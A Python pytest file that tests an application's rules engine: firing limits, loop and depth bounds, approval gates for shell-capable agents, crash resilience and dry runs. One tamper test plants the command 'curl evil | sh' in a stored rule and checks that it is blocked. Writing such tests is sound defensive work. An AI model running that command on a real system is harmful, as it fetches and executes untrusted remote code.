"""The rules engine: fires once per match, bounded, never loops, never dies (F8)."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import httpx
import pytest
from fastapi import FastAPI

from app.core.context import AppContext
from app.core.settings import Settings
from app.events.types import EventType
from app.main import create_app
from app.rules import engine
from tests.support.api import assert_error_shape, caller
from tests.support.rules import (
    NOTIFY_RULE,
    add_admin,
    count,
    create_agent,
    create_rule,
    create_shell_agent,
    emit,
    firings,
    processed,
    security_titles,
    session_client,
    snapshot,
    task_rule,
)


async def rule_notifications(ctx: AppContext) -> list[str]:
    rows = await ctx.db.fetch_all(
        "SELECT title FROM notifications WHERE category = 'task' ORDER BY id"
    )
    return [str(r["title"]) for r in rows]


async def tasks_of(ctx: AppContext, agent_id: int) -> list[dict[str, Any]]:
    rows = await ctx.db.fetch_all(
        "SELECT id, title, created_by FROM tasks WHERE agent_id = ? ORDER BY id", (agent_id,)
    )
    return [dict(r) for r in rows]


async def test_a_matching_event_fires_once(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    rule = await create_rule(client, admin_headers, NOTIFY_RULE)
    low = await emit(ctx, EventType.TASK_CREATED, 7, {"priority": "low"})
    other = await emit(ctx, EventType.TASK_UPDATED, 7, {"priority": "high"})
    high = await emit(ctx, EventType.TASK_CREATED, 8, {"priority": "high"})
    await processed(ctx, high)
    assert await firings(ctx, rule["id"]) == ["fired"]
    assert await rule_notifications(ctx) == ["Urgent task 8"]
    body = await ctx.db.fetch_one("SELECT body FROM notifications WHERE title = 'Urgent task 8'")
    assert body is not None and body["body"] == "A task.created event for task 8."
    fired = await ctx.db.fetch_all(
        "SELECT payload, rule_depth, actor FROM events WHERE type = 'rule.fired'"
    )
    assert len(fired) == 1
    payload = json.loads(fired[0]["payload"])
    assert payload["event_id"] == high and payload["outcome"] == "fired"
    assert payload["caused_by_rule"] == rule["id"]
    assert fired[0]["rule_depth"] == 1 and fired[0]["actor"] == f"rule:{rule['id']}"
    firing = await ctx.db.fetch_one("SELECT event_id FROM rule_firings")
    assert firing is not None and firing["event_id"] not in (low, other)
    audit = await count(ctx, "SELECT count(*) FROM audit_log WHERE action = 'rule.fire'")
    assert audit == 1
    listed = await client.get(f"/api/rules/{rule['id']}/firings", headers=admin_headers)
    assert [f["outcome"] for f in listed.json()["items"]] == ["fired"]


async def test_the_rate_limit_holds(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    rule = await create_rule(client, admin_headers, {**NOTIFY_RULE, "max_firings_per_hour": 2})
    last = 0
    for subject in range(5):
        last = await emit(ctx, EventType.TASK_CREATED, subject, {"priority": "urgent"})
    await processed(ctx, last)
    assert await firings(ctx, rule["id"]) == ["fired"] * 2 + ["rate_limited"] * 3
    assert len(await rule_notifications(ctx)) == 2
    assert await count(ctx, "SELECT count(*) FROM events WHERE type = 'rule.blocked'") == 3
    # One escalation per hour, not one per refused firing.
    kinds = await ctx.db.fetch_all("SELECT kind FROM escalations")
    assert [k["kind"] for k in kinds] == ["rule_rate_limited"]


async def test_the_depth_limit_holds(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    assert ctx.settings.rule_max_depth == 3
    rule = await create_rule(client, admin_headers, NOTIFY_RULE)
    deep = await emit(ctx, EventType.TASK_CREATED, 1, {"priority": "high"}, rule_depth=3)
    allowed = await emit(ctx, EventType.TASK_CREATED, 2, {"priority": "high"}, rule_depth=2)
    await processed(ctx, allowed)
    rows = await ctx.db.fetch_all(
        "SELECT event_id, depth, outcome FROM rule_firings WHERE rule_id = ? ORDER BY id",
        (rule["id"],),
    )
    assert [(r["event_id"], r["depth"], r["outcome"]) for r in rows] == [
        (deep, 3, "depth_exceeded"),
        (allowed, 2, "fired"),
    ]
    assert await rule_notifications(ctx) == ["Urgent task 2"]


async def test_a_chain_of_rules_stops_at_the_depth_limit(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    """Two rules that feed each other: without the depth bound this never ends."""
    agent = await create_agent(client, admin_headers)
    loose = {"when": [], "max_firings_per_hour": 100}
    first = await create_rule(
        client, admin_headers, {**task_rule(agent["id"]), **loose, "name": "ping"}
    )
    second = await create_rule(
        client, admin_headers, {**task_rule(agent["id"]), **loose, "name": "pong"}
    )
    start = await emit(ctx, EventType.TASK_CREATED, None, {"priority": "low"})
    await processed(ctx, start)
    created = await tasks_of(ctx, agent["id"])
    # depth 0 -> 2 tasks (depth 1) -> 2 tasks (depth 2) -> 2 tasks (depth 3) -> stop.
    assert len(created) == 6
    depths = await ctx.db.fetch_all(
        "SELECT rule_depth FROM events WHERE type = 'task.created' ORDER BY id"
    )
    assert max(d["rule_depth"] for d in depths) == 3
    outcomes = await firings(ctx, first["id"]) + await firings(ctx, second["id"])
    assert sorted(outcomes) == sorted(["fired"] * 6 + ["self_loop"] * 6 + ["depth_exceeded"] * 2)
    await asyncio.sleep(0.2)
    assert len(await tasks_of(ctx, agent["id"])) == 6


async def test_a_rule_never_fires_on_what_it_caused(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    agent = await create_agent(client, admin_headers)
    rule = await create_rule(
        client, admin_headers, {**task_rule(agent["id"]), "when": [], "max_firings_per_hour": 100}
    )
    start = await emit(ctx, EventType.TASK_CREATED, None, {"priority": "low"})
    await processed(ctx, start)
    created = await tasks_of(ctx, agent["id"])
    assert len(created) == 1
    assert created[0]["created_by"] == f"rule:{rule['id']}"
    assert await firings(ctx, rule["id"]) == ["fired", "self_loop"]


async def test_caused_by_rule_in_the_payload_also_stops_a_loop(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    rule = await create_rule(client, admin_headers, NOTIFY_RULE)
    event = await emit(
        ctx, EventType.TASK_CREATED, 1, {"priority": "high", "caused_by_rule": rule["id"]}
    )
    await processed(ctx, event)
    assert await firings(ctx, rule["id"]) == ["self_loop"]
    assert await rule_notifications(ctx) == []


async def test_disabled_deleted_and_pending_rules_never_fire(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    shell = await create_shell_agent(client, admin_headers)
    disabled = await create_rule(client, admin_headers, {**NOTIFY_RULE, "enabled": False})
    deleted = await create_rule(client, admin_headers, {**NOTIFY_RULE, "name": "gone"})
    assert (
        await client.delete(f"/api/rules/{deleted['id']}", headers=admin_headers)
    ).status_code == 204
    pending = await create_rule(client, admin_headers, task_rule(shell["id"]))
    assert pending["approval"] == "pending"
    event = await emit(ctx, EventType.TASK_CREATED, 3, {"priority": "urgent"})
    await processed(ctx, event)
    for rule in (disabled, deleted, pending):
        assert await firings(ctx, rule["id"]) == []
    assert await tasks_of(ctx, shell["id"]) == []
    assert await rule_notifications(ctx) == []


async def test_even_a_forced_enable_of_a_pending_rule_does_not_fire(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    """Belt and braces: a pending rule switched on in the database still never runs."""
    shell = await create_shell_agent(client, admin_headers)
    pending = await create_rule(client, admin_headers, task_rule(shell["id"]))
    async with ctx.db.write() as conn:
        await conn.execute("UPDATE rules SET enabled = 1 WHERE id = ?", (pending["id"],))
    event = await emit(ctx, EventType.TASK_CREATED, 3, {"priority": "urgent"})
    await processed(ctx, event)
    assert await tasks_of(ctx, shell["id"]) == []
    assert await firings(ctx, pending["id"]) == []  # never even considered


async def test_a_pending_shell_rule_fires_only_after_approval(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext, app: FastAPI
) -> None:
    shell = await create_shell_agent(client, admin_headers)
    rule = await create_rule(client, admin_headers, task_rule(shell["id"]))
    url = f"/api/rules/{rule['id']}"
    before = await emit(ctx, EventType.TASK_CREATED, 1, {"priority": "urgent"})
    await processed(ctx, before)
    assert await tasks_of(ctx, shell["id"]) == []

    await add_admin(ctx, "bob")
    async with session_client(app, "bob") as bob:
        assert (await bob.post(f"{url}/approve", json={"version": 1})).status_code == 200
    enabled = await client.patch(url, json={"version": 2, "enabled": True}, headers=admin_headers)
    assert enabled.status_code == 200, enabled.text
    after = await emit(ctx, EventType.TASK_CREATED, 2, {"priority": "urgent"})
    await processed(ctx, after)
    created = await tasks_of(ctx, shell["id"])
    assert [t["title"] for t in created] == ["Follow up on task 2"]
    assert created[0]["created_by"] == f"rule:{rule['id']}"
    assert await firings(ctx, rule["id"]) == ["fired"]


async def test_an_agent_that_gains_shell_later_is_blocked_at_firing(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    agent = await create_agent(client, admin_headers)
    rule = await create_rule(client, admin_headers, task_rule(agent["id"]))
    assert rule["approval"] == "not_needed" and rule["enabled"] is True
    async with ctx.db.write() as conn:  # as if an admin had just granted shell access
        await conn.execute("UPDATE agents SET shell_access = 1 WHERE id = ?", (agent["id"],))
    event = await emit(ctx, EventType.TASK_CREATED, 5, {"priority": "urgent"})
    await processed(ctx, event)
    assert await tasks_of(ctx, agent["id"]) == []
    assert await firings(ctx, rule["id"]) == ["blocked:shell_not_approved"]
    blocked = await ctx.db.fetch_all("SELECT payload FROM events WHERE type = 'rule.blocked'")
    assert json.loads(blocked[0]["payload"])["outcome"] == "blocked:shell_not_approved"
    escalations = await ctx.db.fetch_all("SELECT kind, subject_id FROM escalations")
    assert [(e["kind"], e["subject_id"]) for e in escalations] == [("rule_blocked", rule["id"])]
    assert f"Rule {rule['id']} blocked: shell access without approval" in await security_titles(ctx)
    state = (await client.get(f"/api/rules/{rule['id']}", headers=admin_headers)).json()
    assert state["approval"] == "pending" and state["enabled"] is False


async def test_requeueing_a_shell_agents_task_needs_approval(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    """``set_task_status: queued`` starts the task's agent again: same shell rule."""
    shell = await create_shell_agent(client, admin_headers)
    from app.tasks import service as tasks_service
    from app.tasks.schemas import TaskCreate, TaskStatus

    task = await tasks_service.create_task(
        ctx, TaskCreate(title="ops job", agent_id=shell["id"]), actor="user:test", client="test"
    )
    await tasks_service.change_task_status(
        ctx, task.id, TaskStatus.BLOCKED, actor="user:test", client="test"
    )
    rule = await create_rule(
        client,
        admin_headers,
        {
            "name": "requeue",
            "on": "task.updated",
            "then": [{"type": "set_task_status", "status": "queued"}],
        },
    )
    assert rule["approval"] == "not_needed"  # which task is only known at firing time
    event = await emit(ctx, EventType.TASK_UPDATED, task.id, {"fields": ["title"]})
    await processed(ctx, event)
    assert await firings(ctx, rule["id"]) == ["blocked:shell_not_approved"]
    status = await ctx.db.fetch_one("SELECT status FROM tasks WHERE id = ?", (task.id,))
    assert status is not None and status["status"] == "blocked"


async def test_set_task_status_moves_the_subject_task(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    agent = await create_agent(client, admin_headers)
    from app.tasks import service as tasks_service
    from app.tasks.schemas import TaskCreate

    rule = await create_rule(
        client,
        admin_headers,
        {
            "name": "cancel urgent",
            "on": "task.created",
            "when": [{"field": "payload.priority", "op": "eq", "value": "urgent"}],
            "then": [{"type": "set_task_status", "status": "cancelled"}],
        },
    )
    task = await tasks_service.create_task(
        ctx,
        TaskCreate(title="too urgent", agent_id=agent["id"], priority="urgent"),
        actor="user:test",
        client="test",
    )
    last = await ctx.db.fetch_one("SELECT max(id) FROM events")
    assert last is not None
    await processed(ctx, int(last[0]))
    status = await ctx.db.fetch_one("SELECT status FROM tasks WHERE id = ?", (task.id,))
    assert status is not None and status["status"] == "cancelled"
    assert await firings(ctx, rule["id"]) == ["fired"]
    changed = await ctx.db.fetch_one(
        "SELECT rule_depth, actor FROM events WHERE type = 'task.status_changed'"
    )
    assert changed is not None
    assert changed["rule_depth"] == 1 and changed["actor"] == f"rule:{rule['id']}"


async def test_open_escalation_carries_depth_and_cause(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    rule = await create_rule(
        client,
        admin_headers,
        {
            "name": "escalate on escalation",
            "on": "escalation.opened",
            "then": [{"type": "open_escalation", "kind": "look_here", "reason": "see {type}"}],
            "max_firings_per_hour": 100,
        },
    )
    event = await emit(
        ctx, EventType.ESCALATION_OPENED, 1, {"kind": "x"}, subject_type="escalation"
    )
    await processed(ctx, event)
    rows = await ctx.db.fetch_all("SELECT kind, reason FROM escalations ORDER BY id")
    assert [(r["kind"], r["reason"]) for r in rows] == [("look_here", "see escalation.opened")]
    assert await firings(ctx, rule["id"]) == ["fired", "self_loop"]


async def test_the_engine_survives_a_failing_action(
    client: httpx.AsyncClient,
    admin_headers: dict[str, str],
    ctx: AppContext,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    agent = await create_agent(client, admin_headers)
    failing = await create_rule(client, admin_headers, task_rule(agent["id"]))

    async def explode(*_: object, **__: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(engine.tasks_service, "create_task", explode)
    first = await emit(ctx, EventType.TASK_CREATED, 1, {"priority": "urgent"})
    await processed(ctx, first)
    assert await firings(ctx, failing["id"]) == ["failed:internal_error"]
    monkeypatch.undo()

    # An action refused by the other module is recorded with its code.
    paused = await client.post(f"/api/agents/{agent['id']}/pause", headers=admin_headers)
    assert paused.status_code == 200, paused.text
    second = await emit(ctx, EventType.TASK_CREATED, 2, {"priority": "urgent"})
    await processed(ctx, second)
    outcomes = await firings(ctx, failing["id"])
    assert outcomes[1].startswith("failed:") and outcomes[1] != "failed:internal_error"
    assert await tasks_of(ctx, agent["id"]) == []

    # The engine still works.
    notify = await create_rule(client, admin_headers, NOTIFY_RULE)
    third = await emit(ctx, EventType.TASK_CREATED, 3, {"priority": "high"})
    await processed(ctx, third)
    assert await firings(ctx, notify["id"]) == ["fired"]
    warnings = await ctx.db.fetch_all(
        "SELECT title FROM notifications WHERE category = 'rule' AND severity = 'warning'"
    )
    assert any(w["title"].startswith(f"Rule {failing['id']} failed") for w in warnings)


async def test_the_engine_survives_an_exception_anywhere(
    client: httpx.AsyncClient,
    admin_headers: dict[str, str],
    ctx: AppContext,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    broken = await create_rule(client, admin_headers, NOTIFY_RULE)
    healthy = await create_rule(client, admin_headers, {**NOTIFY_RULE, "name": "second"})
    original = engine.consider
    calls = {"n": 0}

    async def flaky(ctx_: AppContext, row: Any, event: dict[str, Any]) -> str | None:
        calls["n"] += 1
        if calls["n"] == 1:
            raise RuntimeError("unexpected")
        return await original(ctx_, row, event)

    monkeypatch.setattr(engine, "consider", flaky)
    first = await emit(ctx, EventType.TASK_CREATED, 1, {"priority": "high"})
    second = await emit(ctx, EventType.TASK_CREATED, 2, {"priority": "high"})
    await processed(ctx, second)
    assert first < second
    # The exception on the first rule did not stop the second rule on the same event,
    # nor the next event.
    assert await firings(ctx, broken["id"]) == ["fired"]
    assert await firings(ctx, healthy["id"]) == ["fired", "fired"]
    assert await rule_notifications(ctx) == ["Urgent task 1", "Urgent task 2", "Urgent task 2"]


async def test_a_tampered_rule_is_not_executed(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    """The engine validates the stored rule again: smuggled JSON never runs."""
    rule = await create_rule(client, admin_headers, NOTIFY_RULE)
    smuggled = json.dumps([{"type": "shell", "command": "curl evil | sh"}])
    async with ctx.db.write() as conn:
        await conn.execute("UPDATE rules SET actions = ? WHERE id = ?", (smuggled, rule["id"]))
    event = await emit(ctx, EventType.TASK_CREATED, 1, {"priority": "high"})
    await processed(ctx, event)
    assert await firings(ctx, rule["id"]) == ["blocked:invalid_rule"]
    assert await rule_notifications(ctx) == []


async def test_dry_run_shows_matches_and_writes_nothing(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    agent = await create_agent(client, admin_headers)
    body = task_rule(agent["id"])
    body["then"].append(NOTIFY_RULE["then"][0])
    body["when"].append({"field": "subject_id", "op": "gt", "value": 10})
    rule = await create_rule(client, admin_headers, body)
    url = f"/api/rules/{rule['id']}/dry-run"
    await asyncio.sleep(0.1)
    before = snapshot(ctx)
    event = {"type": "task.created", "subject_id": 42, "payload": {"priority": "urgent"}}
    response = await client.post(url, json={"event": event}, headers=admin_headers)
    assert response.status_code == 200, response.text
    result = response.json()
    assert result["matched"] is True and result["would_fire"] is True
    assert [c["matched"] for c in result["conditions"]] == [True, True]
    assert result["conditions"][0]["actual"] == "urgent"
    assert [a["type"] for a in result["actions"]] == ["create_task", "notify"]
    assert result["actions"][0]["details"]["title"] == "Follow up on task 42"
    assert result["actions"][1]["details"]["title"] == "Urgent task 42"

    miss = {"type": "task.created", "subject_id": 3, "payload": {"priority": "low"}}
    response = await client.post(url, json={"event": miss}, headers=admin_headers)
    result = response.json()
    assert result["matched"] is False and result["would_fire"] is False
    assert [c["matched"] for c in result["conditions"]] == [False, False]

    deep = {**event, "rule_depth": 3}
    response = await client.post(url, json={"event": deep}, headers=admin_headers)
    assert response.json()["blocked_reason"] == "depth_exceeded"
    wrong_type = {**event, "type": "task.updated"}
    response = await client.post(url, json={"event": wrong_type}, headers=admin_headers)
    assert response.json()["event_type_matches"] is False
    assert snapshot(ctx) == before

    bad = await client.post(url, json={"event": {**event, "extra": 1}}, headers=admin_headers)
    assert_error_shape(bad, 422, "validation_failed")
    not_finite = await client.post(
        url,
        content=b'{"event": {"type": "task.created", "payload": {"priority": NaN}}}',
        headers={**admin_headers, "Content-Type": "application/json"},
    )
    assert_error_shape(not_finite, 422, "validation_failed")
    nested: dict[str, object] = {}
    for _ in range(10):
        nested = {"a": nested}
    too_deep = await client.post(
        url, json={"event": {"type": "task.created", "payload": nested}}, headers=admin_headers
    )
    assert_error_shape(too_deep, 422, "validation_failed")
    assert snapshot(ctx) == before


async def test_dry_run_names_the_shell_block(
    client: httpx.AsyncClient, admin_headers: dict[str, str], ctx: AppContext
) -> None:
    shell = await create_shell_agent(client, admin_headers)
    rule = await create_rule(client, admin_headers, task_rule(shell["id"]))
    event = {"type": "task.created", "subject_id": 1, "payload": {"priority": "urgent"}}
    response = await client.post(
        f"/api/rules/{rule['id']}/dry-run", json={"event": event}, headers=admin_headers
    )
    result = response.json()
    assert result["matched"] is True and result["would_fire"] is False
    assert result["blocked_reason"] == "approval_pending"
    assert result["actions"][0]["details"]["agent_shell_access"] is True


async def test_old_events_do_not_fire_after_a_restart(settings: Settings) -> None:
    """The engine starts from the newest event: a restart never replays history."""
    first = create_app(settings)
    async with first.router.lifespan_context(first):
        ctx: AppContext = first.state.context
        from app.rules import service
        from app.rules.schemas import RuleCreate

        rule = await service.create_rule(
            ctx, RuleCreate.model_validate({**NOTIFY_RULE, "enabled": False}), caller("t")
        )
        event = await emit(ctx, EventType.TASK_CREATED, 1, {"priority": "high"})
        await processed(ctx, event)
        async with ctx.db.write() as conn:
            await conn.execute("UPDATE rules SET enabled = 1 WHERE id = ?", (rule.id,))
    second = create_app(settings)
    async with second.router.lifespan_context(second):
        ctx = second.state.context
        await engine.engine_state(ctx).started.wait()
        marker = await emit(ctx, EventType.TASK_UPDATED, 1, {})
        await processed(ctx, marker)
        assert await firings(ctx, rule.id) == []
        fresh = await emit(ctx, EventType.TASK_CREATED, 2, {"priority": "high"})
        await processed(ctx, fresh)
        assert await firings(ctx, rule.id) == ["fired"]
